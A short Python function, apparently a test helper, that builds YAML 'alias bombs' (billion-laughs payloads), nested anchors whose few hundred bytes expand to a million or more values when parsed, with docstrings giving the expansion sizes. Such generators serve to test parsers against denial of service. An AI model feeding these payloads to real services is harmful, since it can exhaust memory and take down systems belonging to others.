"""YAML alias bombs: a few hundred typed bytes that stand for millions of values."""


def alias_bomb(levels, indent="", width=10):
    """Lines `a0: &a0 [x, …]`, then `aN: &aN [*aN-1, …]`: `width`**`levels` values in all.

    Six levels are about 370 bytes and 10^6 values; nine levels would be 10^9."""
    lines = [f"{indent}a0: &a0 [{', '.join(['x'] * width)}]"]
    for level in range(1, levels):
        lines.append(f"{indent}a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * width)}]")
    return "\n".join(lines) + "\n"
